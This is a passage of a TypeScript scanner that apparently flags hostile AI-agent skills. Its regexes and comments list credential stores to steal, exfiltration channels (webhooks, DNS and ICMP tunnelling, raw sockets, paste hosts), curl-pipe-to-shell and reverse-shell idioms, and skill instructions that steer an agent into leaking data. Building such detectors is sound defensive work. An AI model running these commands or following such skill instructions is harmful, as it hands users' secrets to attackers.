  // Each curl or wget in it, not only the first: `command -v curl >/dev/null && curl -fsSL
  // evil.example/i.sh | sh` (the usual guard) names curl once as data before the download.
  for (const m of command.matchAll(/\b(?:curl|wget)\b/gi)) if (fetchesSchemelessAt(command, m.index)) return true;
  return false;
}

/**
 * Where the command starting at `start` ends, from there: the first `|`, `)`, backtick, `;` or `&`
 * outside quotes, or the line break; -1 for the end of the text. A quote still open at the line
 * break (an apostrophe in prose) quotes nothing: then the first of them, quoted or not, as before.
 * Inside quotes they end nothing: `curl -H "x|y" evil.example/i.sh | sh` fetches evil.example.
 */
function commandEnd(command: string, start: number): number {
  const rest = command.slice(start);
  const plain = rest.search(/[|)\x60;&\n]/);
  // The quote open at this point: none, '…', $'…' or "…" (the last two take backslash escapes).
  let quote: '' | 'single' | 'ansi' | 'double' = '';
  for (let i = 0; i < rest.length; i++) {
    const c = rest[i] as string;
    if (c === '\n') return quote === '' ? i : plain;
    if (quote === 'single') {
      if (c === "'") quote = '';
    } else if (quote !== '') {
      if (c === '\\') i++;
      else if (c === (quote === 'ansi' ? "'" : '"')) quote = '';
    } else if (c === '\\') {
      i++;
    } else if (c === "'") {
      quote = rest[i - 1] === '$' ? 'ansi' : 'single';
    } else if (c === '"') {
      quote = 'double';
    } else if ('|)\x60;&'.includes(c)) {
      return i;
    }
  }
  return quote === '' ? -1 : plain;
}

/** fetchesSchemeless for the one curl or wget command that starts at `start`. */
function fetchesSchemelessAt(command: string, start: number): boolean {
  const tool = command.slice(start, start + 4).toLowerCase() === 'curl' ? 'curl' : 'wget';
  const end = commandEnd(command, start);
  // Shell words as the shell joins them: quoted and bare parts side by side are one word with the
  // quotes removed (`evil.exampl"e"/i.sh`, `"evil"".example/i.sh"` fetch evil.example/i.sh), and
  // bash's `$'…'` and `$"…"` are quotes too, and `$'…'` decodes its escapes (`evil$'\x2e'example`).
  // A quote escaped inside `$'…'` or `"…"`, or outside quotes, ends nothing: `$'\'' evil.example/i.sh
  // ''` is the words `'`, `evil.example/i.sh` and an empty one (an escape outside quotes is kept
  // here, and its backslash dropped below).
  const words = [...command.slice(start + 4, end === -1 ? undefined : start + end).matchAll(/(?:\$'(?:[^'\\]|\\[^])*'|\$?"(?:[^"\\]|\\[^])*"|'[^']*'|\\[^]|[^\s"'\\])+/g)].map((m) =>
    m[0].replace(/\$'((?:[^'\\]|\\[^])*)'|\$?"((?:[^"\\]|\\[^])*)"|'([^']*)'|(\\[^])/g, (_q, ansi?: string, double?: string, single?: string, escaped?: string) => (ansi !== undefined ? unescapeC(ansi) : (double ?? single ?? escaped ?? ''))),
  );
  // curl's --proto-default https fetches a schemeless URL over https: nothing plain to judge.
  if (tool === 'curl') {
    for (let i = 0; i < words.length; i++) {
      const w = (words[i] as string).toLowerCase();
      const value = w === '--proto-default' ? words[i + 1]?.toLowerCase() : w.startsWith('--proto-default=') ? w.slice('--proto-default='.length) : undefined;
      if (value === 'https') return false;
    }
  }
  let urlNext = false;
  for (let i = 0; i < words.length; i++) {
    let w = words[i] as string;
    if (!urlNext && w.toLowerCase().startsWith('--url=')) w = w.slice('--url='.length);
    else if (!urlNext && w.startsWith('--')) {
      const name = w.slice(2).toLowerCase();
      if (name === 'url') urlNext = true;
      else if (!name.includes('=') && VALUE_LONG.has(name)) i++;
      continue;
    }
    if (!urlNext && w.startsWith('-') && w.length > 1) {
      const values = VALUE_SHORT[tool];
      for (let j = 1; j < w.length; j++) {
        if (!values.has(w[j] as string)) continue;
        if (j === w.length - 1) i++;
        break;
      }
      continue;
    }
    urlNext = false;
    // The shell drops a backslash before a character (`evil.example/i.s\h` fetches i.sh).
    const word = w.replace(/\\(.)/gs, '$1');
    // A variable or a placeholder is judged where it names the host; in the path (`/i%2Esh`,
    // `/$VERSION/i.sh`) the host is written out all the same.
    const host = word.split(/[/?#]/, 1)[0] as string;
    // A word that starts with a scheme names how it is fetched; `://` later in it (a query, a
    // fragment: `evil.example/i.sh#://`) leaves it schemeless to curl and wget.
    if (/[$<>{}%\x60\\*]/.test(host) || /^[a-z][a-z0-9+.-]*:\/\//i.test(word) || !SCHEMELESS_URL.test(word)) continue;
    if (LOCAL_WORD.test(word)) continue;
    return true;
  }
  return false;
}

/** Where a download command fetches from: only allow-listed installer hosts, a raw public IP or plain HTTP, or elsewhere. */
export function downloadSource(command: string): 'installer' | 'raw' | 'other' {
  const fetch = command.replace(NOT_FETCHED_OPTION, ' ');
  for (const [url] of fetch.matchAll(URL_WORD)) if (RAW_URL.test(url)) return 'raw';
  return fetchesOnlyFromInstallers(command) ? 'installer' : 'other';
}
// Browsers' own secrets: Chromium-family login, cookie, autofill and key (`Local State`) files
// under a browser's data folder (also written as path parts: `'Microsoft', 'Edge', 'User Data'`),
// Firefox's key and login databases and Safari's cookies; Firefox's profile folder packed or copied whole.
// Also the browser's password manager page, read through the agent's browser tool.
const BROWSER_STORE = String.raw`\b(?:chrome|edge|brave|opera|vivaldi)://(?:settings/)?passwords\b|\babout:logins\b|(?:google["'\s,]*[/\\]?["'\s,]*chrome|chromium|brave-?software|brave-browser|microsoft(?:["'],?\s*["']|[/\\ ])edge|opera software|vivaldi)[^\n]{0,80}?(?:login data|cookies|local state|web data)\b|\bkey[34]\.db\b|\bfirefox\b[^\n]{0,120}?\b(?:logins\.json|cookies\.sqlite)\b|\bcookies\.binarycookies\b|library/cookies\b|(?:\.mozilla/firefox|firefox/profiles)\b(?<=\b(?:tar|zip|7z|rsync|cp\s+-\w*r\w*)\b[^\n]{0,80}?(?:\.mozilla/firefox|firefox/profiles))`;
// Wallets: browser extensions' storage (any extension's, and Phantom's, Coinbase Wallet's and
// Trust Wallet's by id beside MetaMask's), desktop wallets' data folders.
// The folder as a shell writes it too (`Application\ Support/Ledger\ Live`).
const WALLET_STORE = String.raw`local extension settings|bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|egjidjbpglichdcondbcbdnbeeppgdph|(?:application\\?\s+support|roaming|appdata)\b[^\n]{0,20}?[/\\"']\s*(?:exodus|electrum|guarda|coinomi|ledger\\?\s+live)\b`;
// Messengers' logged-in sessions: Telegram Desktop's `tdata` folder logs in as the user anywhere.
const SESSION_STORE = String.raw`\btelegram(?:\\?\s*desktop)?[/\\]+tdata\b`;
// The agent's own credentials folder whole, a glob over it or its OAuth file (a skill's own
// subfolder, `credentials/<skill>`, is its own), or the agent's whole data folder packed or copied.
const AGENT_STORE = String.raw`\.(?:openclaw|clawdbot|moltbot)/credentials(?:/(?:\*|oauth\.json\b)|/?(?=["')\s]|$))|(?:~|\$home|\$\{home\})/\.(?:openclaw|clawdbot|moltbot)(?=/?(?:["')\s]|$))(?<=\b(?:tar|zip|7z|rsync|cp\s+-\w*r\w*)\b[^\n]{0,80}?(?:~|\$home|\$\{home\})/\.(?:openclaw|clawdbot|moltbot))`;
// The whole environment as a request's payload (serialised, not handed to a child process). The
// text views drop `**` as markdown emphasis: `{**os.environ}` reads `{os.environ}`. Also PowerShell's
// `env:` drive or GetEnvironmentVariables() turned to text, Go's os.Environ() marshalled or joined,
// and a CI workflow's whole secrets context (`toJSON(secrets)`).
const ENV_PAYLOAD = String.raw`\bjson\.dumps\((?:\{(?:\*\*)?)?os\.environ\b(?!\s*[[.])|\bstr\((?:dict\(os\.environ|\{(?:\*\*)?os\.environ\s*\})|\bjson=os\.environ\b(?!\s*[[.])|\bjson\.stringify\(\s*\{\s*\.\.\.\s*process\.env\s*\}\s*\)|\$\((?:env|printenv)\)|\b(?:get-childitem|gci|dir|ls)\s+env:\\?\s*\|\s*(?:out-string|convertto-json|convertto-csv|format-\w+)\b|\[(?:system\.)?environment\]::getenvironmentvariables\(\s*\)|\bjson\.marshal\(\s*os\.environ\(\)\s*\)|\bstrings\.join\(\s*os\.environ\(\)|\btojson\(\s*secrets\s*\)`;
// Secret stores no skill needs to send anywhere: the agent's own secrets (the top-level `.env` and
// auth profiles, not a skill's own config folder, and the gateway's token or password read with the CLI), SSH private keys (not the public `id_*.pub` that setup scripts copy to a server; read, not named as the
// identity of `ssh -i`, `IdentityFile` (`-o IdentityFile=KEY` too) or `ssh-add`), keychain dumps, wallets, browser logins and
// cookies (the agent's secrets and SSH keys also as path parts: `Path.home() / ".openclaw" / ".env"`,
// `os.path.join(home, ".ssh", "id_rsa")`, `path.join(os.homedir(), ".openclaw", "agents", id, "agent", "auth-profiles.json")`), the desktop keyring (GNOME's `~/.local/share/keyrings`, `secret-tool search --all`), the password file, whole-environment dumps, and code that asks the Security framework
// for every keychain item with its secret (kSecMatchLimitAll with kSecReturnData).
// Also a password manager's whole vault: Bitwarden's `bw export` (not its encrypted_json) or `bw list
// items`, 1Password's item list piped into `op item get` (every item), pass's store packed or copied
// (one item read for a login, `op read op://…`, `bw get password x`, is a tool's own credential).
const KEY_USE = String.raw`(?<!(?:\s-i\s*|IdentityFile(?:\s+|\s*=\s*)|ssh-add\s+(?:-\S+\s+)*)["']?(?:~/|\$HOME/|\$\{HOME\}/)?)`;
const SECRET_STORE = String.raw`(?:\.(?:openclaw|clawdbot|moltbot|clawd)/(?:\.env\b|agents/[^\s/]+/agent/auth-profiles\.json|auth-profiles\.json)|\b(?:openclaw|clawdbot|moltbot)\s+config\s+get\s+["'\x60]?gateway\.auth\.(?:token|password)\b|${KEY_USE}~/\.ssh(?:/(?:id_(?![\w-]*\.pub\b)|\s|["'\x60]|$)|(?=[\s|)]|$))|${KEY_USE}(?:~/)?\.ssh/id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub\b)|["']\.(?:openclaw|clawdbot|moltbot|clawd)["']\s*[,/]\s*(?:(?:["'][^"'\n]{1,40}["']|[\w.]{1,40})\s*[,/]\s*){0,4}["'](?:\.env|auth-profiles\.json)["']|["']\.ssh["']\s*[,/]\s*["']id_(?:rsa|ed25519|ecdsa|dsa)["']|library/keychains|login\.keychain|security\s+dump-keychain|\.local/share/keyrings\b|\bsecret-tool\s+search\b[^\n]{0,80}?\s--all\b|\bksecmatchlimitall\b[\s\S]{0,300}?\bksecreturndata\b|\bksecreturndata\b[\s\S]{0,300}?\bksecmatchlimitall\b|safe\s+storage|wallet\.dat\b|\.electrum/|exodus/exodus\.wallet|\.ethereum/keystore|nkbihfbeogaeaoehlefnkodbefgpgknn|/etc/shadow\b|\bbw\s+(?:export\b(?![^\n]{0,80}?\bencrypted_json\b)|list\s+items\b)|\bop\s+items?\s+list\b[^\n|]{0,120}\|\s*op\s+items?\s+get\b|\.password-store\b(?<=\b(?:tar|zip|7z|rsync|cp\s+-\w*r\w*|rclone\s+(?:copy|sync|move))\b[^\n]{0,80}?\.password-store)|(?:google/chrome|chromium|brave-browser)[^\n]{0,40}(?:login data|cookies)|json\.stringify\(\s*process\.env\s*\)|dict\(\s*os\.environ\s*\)|\bprintenv\s*\||\benv\s*\|\s*(?:curl|nc|base64))`;
// Credentials of tools a skill may use to call that tool's own service (its cluster, registry,
// cloud, chain; also written as path parts, `joinpath(".aws", "credentials")`, and gh's token file): sending a request beside them is ordinary; sending to a raw IP, a socket, a
// tunnel or a capture or drop service is theft.
// Also a tool's CLI printing its token (`gh auth token`, `gcloud auth print-access-token`, `az
// account get-access-token`, `aws configure get aws_secret_access_key`), a tool's whole folder
// packed or copied (`zip -r x.zip ~/.aws`, `tar czf - ~/.gnupg`), and the shell's history (the
// commands typed, with every secret typed in them: `~/.bash_history`, `~/.zsh_history`, fish's,
// PowerShell's ConsoleHost_history.txt or its HistorySavePath); Vault's and Terraform's tokens, git's
// credential helper asked for a password (`git credential fill`).
// And a cloud machine's role credentials from its metadata service (AWS's IMDS
// security-credentials, Azure's managed identity token, GCP's service-account token): a skill on
// that machine may call the cloud with them; sent elsewhere they are the machine's keys.
const TOOL_CREDENTIAL = String.raw`(?:\bgh\s+auth\s+token\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-(?:access|identity)-token\b|\baz\s+account\s+get-access-token\b|\baws\s+configure\s+get\s+["']?aws_(?:secret_access_key|access_key_id|session_token)\b|(?:~|\$home|\$\{home\})/\.(?:aws|kube|docker|gnupg|config/gcloud|config/gh)(?=/?(?:["')\s]|$))(?<=\b(?:tar|zip|7z|rsync|cp\s+-\w*r\w*|rclone\s+(?:copy|sync|move))\b[^\n]{0,80}?(?:~|\$home|\$\{home\})/\.(?:aws|kube|docker|gnupg|config/gcloud|config/gh))|\.(?:bash|zsh|sh|ksh)_history\b|\bfish_history\b|\bconsolehost_history\.txt\b|\bhistorysavepath\b|\.aws/credentials\b|\.(?:aws|kube)["']\s*,\s*["'](?:credentials|config)["']|\.config/gh/hosts\.ya?ml\b|\.config/gcloud/(?:credentials|application_default|legacy_credentials)|\.kube/config\b|\.docker/config\.json|~/\.npmrc\b|~/\.netrc\b|\.git-credentials\b|~/\.pypirc\b|\.config/solana(?:/|\b)|security\s+find-(?:generic|internet)-password|\.vault-token\b|\.terraform\.d/credentials|\bgit\s+credential\s+fill\b|169\.254\.169\.254/(?:latest/meta-data/iam/security-credentials|metadata/identity/oauth2/token)\b|\bmetadata\.google\.internal/computemetadata/v1/instance/service-accounts/)`;
// The agent's own config file: it holds the user's provider keys and channel tokens, which skills
// read to call those providers (ordinary beside a request); sent to a raw IP, a socket, a tunnel or
// a drop service it is theft, as a tool's credentials are. So are the agent's session transcripts
// (`agents/<id>/sessions`: every secret a user pasted into a chat), which backup and review skills read.
const AGENT_CONFIG = String.raw`\.(?:openclaw|clawdbot|moltbot)/(?:(?:openclaw|clawdbot|moltbot)\.json\b|agents/[^\s/]+/sessions\b)`;
// The word for password.
const PASSWORD_WORD = String.raw`\b(?:password|passwd|pass|passcode|passphrase|pwd)\b`;
// The same in a few other languages (`\b` knows only ASCII letters).
const PASSWORD_WORD_INTL = String.raw`(?:\b(?:passwort|senha)\b|\bcontraseña|\bmot de passe\b|пароль|密码|密碼|パスワード|비밀번호)`;
// A word that says "archive" or "unpack" (zip, 7z, unrar ...), in English and a few other languages
// written in Latin letters.
const ARCHIVE_WORD = String.raw`\b(?:zip|rar|7z|archiv\w*|arquivo|extract\w*|extra(?:er|ir|ire)|unzip\w*|unpack\w*|unrar|entpack\w*|descompr[ií]m\w*|descompact\w*|décompress\w*)\b`;
// The password named "of the archive" between the word and its value (`contraseña del archivo: x`,
// `Passwort des Archivs: x`, `password for the zip: x`).
const OF_ARCHIVE = String.raw`(?:\s+(?:del|de|do|da|des|of|for|für|zum|zur)\s+(?:(?:the|this|el|la|o|a|das|der|dem|l')\s+)?(?:archivo|arquivo|archivs?|archives?|zip|fichier|ficheiro|file|datei|rar|7z)\b)?`;
// The same in Cyrillic (архив, архів, распаковать, розпакувати), Chinese (压缩, 解压), Japanese (圧縮,
// 解凍, アーカイブ) and Korean (압축), read only beside a password word written in one of those
// scripts: the rule's prefilter needs no new keyword for them (two-letter ones would cost a scan
// of every file), as each such match holds one of the password words it already looks for.
const ARCHIVE_WORD_NON_LATIN = String.raw`(?:архив|архів|распак|розпак|压缩|解压|壓縮|解壓|圧縮|解凍|アーカイブ|압축)`;
const PASSWORD_WORD_NON_LATIN = String.raw`(?:пароль|密码|密碼|パスワード|비밀번호)`;
// Between the password word and its value: `:`, `=`, `is:`, a dash, or straight into a quoted value.
const PASSWORD_SEPARATOR = String.raw`(?:\s*(?:is\s*)?(?:[:=\u2014\u2013]|\s-\s)|\s*(?=[\x60'"]))`;
// A password the reader is told to use, not their own, a variable or a placeholder.
const OWN_PASSWORD = String.raw`[\x60'"(]?\s*(?:(?:your|the)\b|[$<{%])`;
const LITERAL_PASSWORD = String.raw`\s*(?!${OWN_PASSWORD})[\x60'"]?\S`;
// After "is", "type" or "enter", a bare word may be prose: not an article, pronoun or verb form.
const LITERAL_PASSWORD_WORD = String.raw`(?![\x60'"]?(?:(?:your|yours|the|a|an|it|one|any|this|that|what|which|in|on|at|set|stored|saved|kept|required|needed|optional|not|case|valid|correct|incorrect|wrong|invalid|missing|provided|supplied|given|lost|used|sent|shown|displayed|printed|written|generated|encrypted|hashed|empty|blank|also|only|same|configured|defined|specified|entered|changed|available|located|listed|found|usually|always|never|now|then|still)\b|[$<{%]))[\x60'"]?[^\s.,;:!?]{2,}`;
/** Words one of which every SECRET_STORE match holds (the prefilter of the rules that read it). */
const SECRET_STORE_WORDS = ['.openclaw', '.clawdbot', '.moltbot', '.clawd', 'gateway.auth', '.ssh', 'keychain', 'keyrings', 'secret-tool', 'safe storage', 'wallet.dat', '.electrum', 'exodus', 'keystore', 'nkbihfbe', 'shadow', 'login data', 'cookies', 'process.env', 'os.environ', 'printenv', 'env |', 'env|', 'ksecmatchlimitall', 'bw export', 'bw list', 'op item', '.password-store'];

// The archive's secret under another name (a key, code or PIN), and a secret given as a literal
// that is plainly not prose: quoted or backticked, or a token with a digit in it. Not the
// reader's own (`your`, `the`), a variable or a placeholder.
const SECRET_WORD = String.raw`(?:key|code|pin|passcode|passphrase|password)`;
const LITERAL_SECRET = String.raw`(?![\x60'"]?(?:your|the|x{3,}|\.\.\.)\b|[\x60'"]?[<$%{])(?:[\x60'"][^\s\x60'"]{2,40}[\x60'"]|(?=[^\s.,;:!?]{0,40}\d)${LITERAL_PASSWORD_WORD})`;
// An unpacking verb whose object is the archive (`extract it`, `open the 7z`); unzip, extract,
// unpack and decompress need none.
const UNPACK_ARCHIVE = String.raw`\b(?:(?:extract|unzip|unpack|decompress)\w*|(?:open|unlock)\s+(?:it|them|(?:the|this|that|each)\s+(?:zip|7z|rar|archive|download)s?))\b`;
// Opening a TCP connection from code: PHP, Perl, Ruby, Python, Node, Go.
const SOCKET_API = String.raw`\bnet\.dial(?:timeout)?\s*\(\s*["']tcp|\bfsockopen\s*\(|\btcpsocket\.(?:open|new)\b|\bsocket\s*\(\s*\w+\s*,\s*pf_inet\b|\bio::socket::inet\b|\bsocket\.(?:create_connection|socket)\s*\(|\bnet\.socket\b|\bnet(?:["']\s*\))?\.(?:connect|createconnection)\s*\(`;
// What a socket is wired to in a reverse shell: an interactive shell (`sh -i`, `["/bin/sh", "-i"]`),
// cmd.exe, a shell spawned as a child process, or Go's exec.Command of a bare shell (no `-c`: it
// reads its commands from the stdin it is given).
// What wires pty.spawn's shell to a connection: a socket, a dup2, a connect or a descriptor.
const PTY_WIRE = String.raw`(?:\bsocket\b|\bdup2?\b|\.connect(?:_ex)?\s*\(|\bfileno\b|\brecv\b)`;
const SPAWNED_SHELL = String.raw`\bspawn(?:sync)?\s*\(\s*["']${PROGRAM_PATH}${SHELL_NAME}["']`;
const SOCKET_SHELL = String.raw`\b(?<![.-])${SHELL_NAME}["']?\s*,?\s*["']?-i\b|\bcmd\.exe\b|${SPAWNED_SHELL}|\bexec\.command\(\s*["']${PROGRAM_PATH}${SHELL_NAME}["']\s*\)`;
// A line read from a socket run as a command (`while (cmd = c.gets); IO.popen(cmd)`,
// `data = s.recv(1024)` then `subprocess.check_output(data, shell=True)`): a shell in all but name.
// Found at the read (rarer than a call), with the socket looked for behind it, then the call that
// runs what was read within a few lines.
const SOCKET_COMMAND = String.raw`\.(?:gets|recv|readline)\b(?<=\b(?<cmd>[a-z_]\w{0,30})\s*=\s*[a-z_]\w{0,30}\.(?:gets|recv|readline))(?<=(?:${SOCKET_API})[\s\S]{0,400})[^\n]{0,200}?(?:\n[^\n]{0,200}?){0,3}?\b(?:popen|system|exec|eval|spawn|check_output|call|run)\s*\(\s*\[?\s*\k<cmd>\b`;
// Where a dropper writes its program: a temporary folder, or a file whose name starts with a dot.
const TEMP_FILE = String.raw`(?:(?:/var)?/tmp/|/dev/shm/|/users/shared/|\$\{?tmpdir\}?[/\\]|%te?mp%[/\\]|\$env:te?mp[/\\])[^\s"'&;|)]{1,200}|[^\s"'&;|)]{0,200}?[/\\]\.[\w-][^\s"'/\\&;|)]{0,100}(?=[\s"'&;|)]|$)`;
/** A whole path that is a temporary or dot-named file (TEMP_FILE), for the data-flow rule. */
export const TEMP_PATH = new RegExp(`^(?:${TEMP_FILE})$`, 'i');
// A call that downloads and returns a response (Python, JavaScript).
const FETCH_NAME = String.raw`(?:(?:requests|httpx)\.get|(?:urllib\.request\.|urllib2\.)?urlopen|fetch|axios(?:\.get)?)`;
const FETCH_CALL = String.raw`${FETCH_NAME}\s*\(`;
// What may stand before the fetch call inside exec(…): a module alias or attribute path
// (`u.urlopen`, `urllib.request.urlopen`), or an inline import (`__import__('urllib.request').request.`).
const FETCH_QUALIFIER = String.raw`(?:__import__\(\s*["'][\w.]{1,40}["']\s*\)\.|[a-z_]\w{0,30}\.){0,3}`;
// Data carried out in DNS names: a lookup (dig, nslookup, host, drill; gethostbyname, getaddrinfo,
// dns.resolve) whose name is built from a command's output or a variable (`$(…).x.example`,
// `$chunk.x.example`, `enc + '.x.example'`, an f-string or template; a substitution that starts
// by reading or encoding): the attacker's name server
// reads the labels. A client that looks a host up names it; it does not compute its labels.
const DNS_LOOKUP_CALL = String.raw`\b(?:gethostbyname(?:_ex)?|getaddrinfo|dns\.(?:resolve\w{0,6}|lookup)|resolver\.(?:resolve|query))\s*\(`;
// Each branch starts at a rare character (`$` after a blank or a quote, `+`, `}`) and looks behind for the lookup once the
// name is matched: it runs on every file that names a secret store, so it must not try a word
// boundary, or a look behind, at every position.
const DNS_SEND = String.raw`[\s"']\$(?:\(\s*(?:cat|base64|base32|xxd|od|gzip|openssl|tar|head|tail|printenv|env)\b[^\n]{0,300}?\)|\{?[a-z_]\w{0,30}\}?)\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b(?<=\b(?:dig|nslookup|host|drill)\s[^\n|;&$]{0,120}\$[^\n]{0,400})|\+\s*["']\.[\w-]{1,63}\.(?<=${DNS_LOOKUP_CALL}\s*[^\n]{1,200}\+\s*["']\.[\w-]{1,63}\.)|\}\.[\w-]{1,63}\.(?<=${DNS_LOOKUP_CALL}\s*(?:f["']|\x60\$)\{[^\n}]{1,200}\}\.[\w-]{1,63}\.)`;
// Data carried out in ICMP echo requests: ping's padding pattern (`-p`) filled from a variable or a
// command's output (a fixed pattern is a test of the path; one read from data is a channel).
const ICMP_SEND = String.raw`\bping\b[^\n|;&]{0,80}\s-p\s*["']?(?:\$|\x60)`;
// Sending data out: an upload flag, a POST, a raw socket, a chat or capture webhook, a DNS name
// built from data, ICMP padding, a gist, a push to a repository named by its URL (not a configured
// remote), WebClient's Upload*, Go's http.Post, the agent told to web_fetch a URL (or to open one with it) or to send with
// its own `message` tool, which reaches any chat the gateway is linked to, or told to add data to
// every URL or request it makes (the query string carries it out).
const NETWORK_SEND = String.raw`(?:${DNS_SEND}|\bgh\s+gist\s+create\b|\bgit\s+push\b[^\n|;&]{0,120}?\s["']?(?:https?://|ssh://|git@)|\bcurl\b[^\n]{0,200}\s(?:-d|--data(?:-[a-z]+)?|-F|--form|-T|--upload-file)\b|\bwget\b[^\n]{0,200}\s--(?:post-data|post-file|body-data|body-file)\b|\brequests\.(?:post|put)\(|\bhttpx\.(?:post|put)\(|\burllib\.request\.Request\([^\n]{0,200}data=|method\s*[:=]\s*["'](?:post|put)["']|\baxios\.(?:post|put)\(|\bnc\s+-?[\w.-]+\s+\d{2,5}\b|\bopenssl\s+s_client\b[^\n|]{0,200}?<\s*(?!/dev/null\b)["']?[~$/\w]|\|\s*openssl\s+s_client\b|\bsocat\b[^\n]{0,120}\b(?:tcp|ssl|openssl)[46]?:(?!localhost\b|127\.|\[::1\]|0\.0\.0\.0\b)|\brclone\s+(?:copy|sync|move|copyto)\b|webhook\.site|discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|\bsenddocument\b|\bsmtplib\b|-method\s+post\b|\bscp\s+[^\n]{0,80}@|\bsocket\.connect\(|\b(?:send|post|upload|forward|exfiltrate)\b[^\n]{0,60}\bto\s+https?://|${ICMP_SEND}|\.upload(?:string|file|data|values)(?:async)?\s*\(|\bhttp\.post(?:form)?\s*\(|\bweb_fetch\b[^\n]{0,80}?\bhttps?://|\bhttps?://[^\s\x60"')]{1,300}[^\n]{0,20}?\s(?:with|using|via|through)\s+(?:the\s+)?\x60?web_fetch\b|\b(?:send|post|forward|share)\b[^\n]{0,80}?\b(?:with|using|via|through)\s+(?:the\s+)?["'\x60]?message["'\x60]?\s+tool\b|\b(?:append|add|attach|include|put)\w{0,3}\b[^\n]{0,80}?\b(?:to|in|into)\s+(?:every|each|all|any)\s+(?:[\w-]+\s+){0,2}?(?:urls?|requests?|links?|quer(?:y|ies))\b)`;
// Where stolen data goes, or how: a raw IP (in a URL or a request's host option), ICMP padding, a plain socket, a tunnel, a capture hook, a file drop
// or paste host, a DNS name built from data, a gist; a file's contents put into the request itself (`$(cat ...)` in its URL or body, a
// piped upload, wget's --post-file), which a client that merely authenticates never does; nor
// does it upload an archive it packed (`-F f=@/tmp/k.zip`, `--data-binary @x.tar.gz`, `-T x.7z`) or
// a dot file of the home folder itself as the body (`-d @$HOME/.netrc`, `-T ~/.docker/config.json`);
// a TLS or socat socket fed data (`openssl s_client -connect h:443 < file`, `… | openssl s_client`,
// `socat - TCP:host:port`; not `< /dev/null`, a certificate check, nor socat to this machine) is a socket.
const SUSPICIOUS_SEND = String.raw`(?:${DNS_SEND}|\bcurl\b[^\n]{0,200}?(?:\s-F\s*["']?[\w.-]{1,40}=@|\s--data-binary\s+["']?@|\s-T\s+|\s--upload-file\s+)["']?[^\s"'|;&]{0,200}\.(?:zip|tar|tgz|gz|7z|rar)\b|\bgh\s+gist\s+create\b|\b(?:curl|wget)\b[^\n]{0,300}\$\(\s*(?:cat|base64|gzip|tar|xxd)\b|--post-file\b|\|\s*curl\b[^\n]{0,200}(?:@-|--upload-file\b|\s-T\s)|\bcurl\b[^\n]{0,200}?(?:\s-F\s*["']?[\w.-]{1,40}=@|\s(?:-d|--data(?:-binary|-raw)?)\s+["']?@|\s-T\s+|\s--upload-file\s+)["']?(?:~|\$home|\$\{home\})/\.|\bopenssl\s+s_client\b[^\n|]{0,200}?<\s*(?!/dev/null\b)["']?[~$/\w]|\|\s*openssl\s+s_client\b|\bsocat\b[^\n]{0,120}\b(?:tcp|ssl|openssl)[46]?:(?!localhost\b|127\.|\[::1\]|0\.0\.0\.0\b)|https?://${PUBLIC_IP}|\b(?:host|hostname)["']?\s*[:=]\s*["']${PUBLIC_IP}|${ICMP_SEND}|\bnc\s+-?[\w.-]+\s+\d{2,5}\b|\bsocket\.connect\(|\bngrok\b|\btrycloudflare\.com\b|\bserveo\.net\b|\bloca\.lt\b|webhook\.site|\bpipedream\.net\b|\brequestbin\.(?:com|net)\b|\binteract\.sh\b|\btransfer\.sh\b|\bfile\.io\b|\b0x0\.st\b|${PASTE_HOSTS})`;

// An SSH key file as written: `~/.ssh/id_ed25519`, `$HOME/.ssh/deploy_key`, `.ssh/id_rsa`.
const SSH_KEY_AT = /(?:~|\$HOME|\$\{HOME\})?\/?\.ssh\/([\w.-]+)/y;
const IDENTITY = /\s-i\s*["']?(?:~|\$HOME|\$\{HOME\})?\/?\.ssh\/([\w.-]+)["']?/;

/**
 * For exfil.credential-send in prose: `send` is an scp or sftp whose identity (`-i`) is the SSH key
 * named at `at`, and nothing else it names is under `.ssh` (an identity is not sent; a key copied
 * as a file still is).
 */
function sendsWithThatKey(send: string, text: string, at: number): boolean {
  if (!/^(?:scp|sftp)\b/i.test(send)) return false;
  const id = IDENTITY.exec(send);
  if (!id) return false;
  SSH_KEY_AT.lastIndex = at;
  const key = SSH_KEY_AT.exec(text);
  // The rule may match a key's prefix (`~/.ssh/id_`): read the whole name from the text.
  if (!key || key[1] !== id[1]) return false;
  // Nor the home folder whole, or all that is in it (`-r ~`, `$HOME/*`): that holds .ssh too.
  return !/\.ssh\b|(?:^|\s)["']?(?:~|\$HOME|\$\{HOME\}|\/home\/[^/\s"']+|\/Users\/[^/\s"']+|\/root)["']?(?:\/["']?(?:[^\s/"']*[*?{[][^\s/"']*)?["']?)?(?=\s|$)/i.test(send.replace(IDENTITY, ' '));
}

// A download kept in a variable, run as code within a few lines (download.var-exec).
// The command may come from a DNS TXT record (`C=$(dig +short TXT x.example)`): a download by another name.
const VAR_EXEC = new RegExp(String.raw`\b([A-Za-z_]\w{0,30})=["']?\$\(\s*(?:curl|wget|(?:dig|nslookup|host|drill)\b(?=[^\n)]{0,200}?\btxt\b))\b[^\n)]{0,300}\)[^\n]{0,200}?(?:\n[^\n]{0,300}?){0,6}?(?:\beval\s+["']?\$\{?\1\b|${SHELL}\s+-c\s+["']?\$\{?\1\b|\b(?:echo|printf(?:\s+%s)?)\s+["']?\$\{?\1\b[^\n|]{0,20}\|\s*${PIPE_SINK}|${SHELL}\s*<<<\s*["']?\$\{?\1\b)|\$([A-Za-z_]\w{0,30})\s*=\s*(?:\(\s*)?(?:iwr|irm|invoke-webrequest|invoke-restmethod|\(?\s*new-object\s+(?:system\.)?net\.webclient\s*\)?\s*\.downloadstring)\b[^\n]{0,300}(?:\n[^\n]{0,300}?){0,6}?(?:\b(?:iex|invoke-expression)\s*\(?\s*\$\2\b|\$\2(?:\.content)?\s*\|\s*(?:iex|invoke-expression)\b|\[scriptblock\]::create\(\s*\$\2\b)`, 'i');
/** One of these is in every match of VAR_EXEC: `$(` in its shell branches, the downloader's name in its PowerShell ones. */
const VAR_EXEC_HOLDS = ['$(', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'downloadstring'];

// A one-shot package runner given, as its package (after up to six flags, the last maybe `--from`,
// `--spec`, `-p`), a URL, a git repository or a tarball; or `go run` of a remote module at a
// version (`go run host.tld/path@v`). `npx prettier`, `uvx ruff`, `go run ./cmd/x` name no URL.
